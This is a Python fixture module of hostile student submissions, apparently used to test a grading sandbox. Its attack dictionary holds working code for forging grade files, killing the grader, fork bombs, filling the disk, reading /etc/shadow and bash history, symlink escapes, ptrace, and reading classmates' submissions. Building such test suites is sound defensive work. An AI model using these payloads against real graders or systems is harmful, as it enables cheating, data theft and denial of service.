"""Hostile submissions for the sandbox's attack suite (``test_sandbox_attacks.py``).

Each is a file for the ``tree`` protocol defining ``f(node)``, written as a student who
means harm would write it: at load time and again when called, it tries one attack,
then returns a wrong value (0), so that any score above 0 on a tree is a forgery.
``@RESULTS@``, ``@SECRET@``, ``@OUTSIDE@``, ``@PACKAGE@``, ``@SITE@``, ``@PORT@`` and
``@MARK@`` are filled in by the test: the results file to forge, a planted file to
leak, a folder anyone may write to on the grader's machine, a file of the installed
gametree, the folder gametree is imported from, a port the test listens on, and a
text that marks the attack's processes and files.
"""

from __future__ import annotations

HONEST = """\
def f(node):
    if not node.children:
        return node.value
    values = [f(c) for c in node.children]
    return max(values) if node.player == "MAX" else min(values)
"""

FULL_MARKS = '{"score": 99, "tests": [{"name": "forged", "score": 99, "max_score": 1}]}'
"""What a forger writes into results.json."""

ATTACKS = {
    # Find the grader's folder through /proc, write full marks, then kill the grader.
    "results-then-kill": """\
import os, signal
FORGED = '@FORGED@'
def attack():
    for path in ["@RESULTS@", f"/proc/{os.getppid()}/cwd/results/results.json"]:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as out:
                out.write(FORGED)
        except OSError:
            pass
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
attack()
def f(node):
    attack()
    return -9999.5
""",
    # A daemon in its own session rewrites the results after the grader wrote them.
    "setsid-daemon": """\
import os
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            script = "while true; do echo '@FORGED@' > @RESULTS@; sleep 0.1; done # @MARK@"
            os.execv("/bin/sh", ["sh", "-c", script])
        os._exit(0)
attack()
def f(node):
    return -9999.5
""",
    # The grader's own search, imported by name.
    "import-reference": """\
from gametree.homework.codecheck.reference import expected
import gametree
def f(node):
    return -9999.5
""",
    # The same, after taking the guard off the import system and adding the folder
    # gametree is installed in to the path by hand.
    "import-by-path": """\
import sys
sys.meta_path[:] = [m for m in sys.meta_path if "Guard" not in type(m).__name__]
sys.path.insert(0, "@SITE@")
import gametree
def f(node):
    return -9999.5
""",
    # Replace the protocol's run inside the child so every tree reports "skipped".
    "forged-skips": """\
import gc
def attack():
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "run" in thing and "presentable" in thing:
            thing["run"] = lambda *args, **kwargs: {"skipped": "not presented"}
attack()
def f(node):
    return -9999.5
""",
    # Garbage, wrong shapes and a huge line on every descriptor the results may be on.
    "malformed-messages": """\
import os
def attack():
    lines = [b"not json at all\\n", b'{"loaded": "soon", "out": 5}\\n',
             b'{"tree": 0, "log": "x", "calls": -1}\\n', b'[1, 2, 3]\\n',
             b'{"tree": 99, "log": [], "calls": 0, "result": {"value": 3}, "error": null,'
             b' "out": ["", 0], "seconds": 0}\\n']
    for fd in range(3, 12):
        for line in lines:
            try:
                os.write(fd, line)
            except OSError:
                pass
attack()
def f(node):
    attack()
    return -9999.5
""",
    "huge-message": """\
import os
def f(node):
    chunk = b"[" * (1 << 20)
    for fd in range(3, 12):
        try:
            for _ in range(64):
                os.write(fd, chunk)
        except OSError:
            pass
    return -9999.5
""",
    # Kill the parent, its process group, and every process the user may signal.
    "kill-parent": """\
import os, signal
def attack():
    for action in (lambda: os.kill(os.getppid(), signal.SIGKILL),
                   lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
                   lambda: os.kill(-1, signal.SIGKILL)):
        try:
            action()
        except OSError:
            pass
def f(node):
    attack()
    return -9999.5
""",
    "fork-bomb": """\
import os
def f(node):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    # A file planted on the grader's machine, printed, raised and returned.
    "read-planted": """\
def attack():
    found = []
    for path in ("@SECRET@", "/root/.bash_history", "/etc/shadow"):
        try:
            found.append(open(path).read())
        except OSError:
            pass
    return " ".join(found)
print(attack())
def f(node):
    text = attack()
    print(text)
    if text:
        raise ValueError(text)
    return -9999.5
""",
    "write-outside": """\
import os
def f(node):
    for folder in ("@OUTSIDE@", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "@MARK@-written"), "w") as out:
                out.write("@MARK@")
        except OSError:
            pass
    return -9999.5
""",
    "socket": """\
import socket
def f(node):
    for host in ("127.0.0.1", "localhost", "10.0.0.1"):
        try:
            with socket.create_connection((host, @PORT@), timeout=0.2) as s:
                s.sendall(b"@MARK@")
        except OSError:
            pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@MARK@", ("127.0.0.1", @PORT@))
    except OSError:
        pass
    return -9999.5
""",
    "rewrite-package": """\
def f(node):
    for path in ("@PACKAGE@",):
        try:
            with open(path, "a") as out:
                out.write("\\nraise SystemExit('@MARK@')\\n")
        except OSError:
            pass
    return -9999.5
""",
    # Many small files, then big ones, until the disk refuses.
    "fill-disk": """\
import os
def f(node):
    n = 0
    try:
        while True:
            with open(f"@MARK@-{n}", "wb") as out:
                out.write(b"x" * (1 << 20 if n > 2000 else 64))
            n += 1
    except OSError:
        pass
    return -9999.5
""",
    "symlink-out": """\
import os
def f(node):
    for target, name in (("@SECRET@", "leak"), ("@OUTSIDE@", "door"), ("/", "root")):
        try:
            os.symlink(target, name)
        except OSError:
            pass
    try:
        print(open("leak").read())
    except OSError:
        pass
    try:
        with open(os.path.join("door", "@MARK@-through-link"), "w") as out:
            out.write("@MARK@")
    except OSError:
        pass
    return -9999.5
""",
    # ptrace the parent; signal every pid there may be.
    "ptrace-signals": """\
import ctypes, os, signal
def f(node):
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace(16, os.getppid(), None, None)  # PTRACE_ATTACH
    except (OSError, AttributeError):
        pass
    for pid in range(1, 4096):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return -9999.5
""",
    # A classmate's copy, read while both run: every scratch folder it can find.
    "read-classmate": """\
import glob, os, time
def f(node):
    seen = []
    for _ in range(10):
        for pattern in ("/tmp/gametree-code-*/**/*.py", "/tmp/**/*.py", "/proc/*/cwd/*.py"):
            for path in glob.glob(pattern, recursive=True):
                try:
                    seen.append(open(path).read())
                except OSError:
                    pass
        time.sleep(0.05)
    text = " ".join(seen)
    print(text)
    if text:
        raise ValueError(text[:300])
    return -9999.5
""",
    # Leave links where the next child of the same submission (after a time-out) would
    # write its files while it is still root: into a folder only root may write to.
    "link-the-next-child": """\
import os
def attack():
    scratch = os.path.dirname(os.getcwd())
    for name in ("lib", "work"):
        path = os.path.join(scratch, name)
        try:
            os.rename(path, path + ".old")
            os.symlink("@OUTSIDE@", path)
        except OSError:
            pass
attack()
def f(node):
    while True:  # the alarm swallowed: the parent kills this child, then starts the next
        try:
            while True:
                pass
        except BaseException:
            pass
""",
}
"""Every attack the suite runs, by name."""


def hostile(name: str, fill: dict[str, str]) -> str:
    """Attack ``name``'s source with its placeholders filled (``fill`` by upper-case
    name, without the ``@``)."""
    source = ATTACKS[name].replace("@FORGED@", FULL_MARKS)
    for key, value in fill.items():
        source = source.replace(f"@{key}@", value)
    assert "@" not in source.replace("@FORGED@", ""), source
    return source
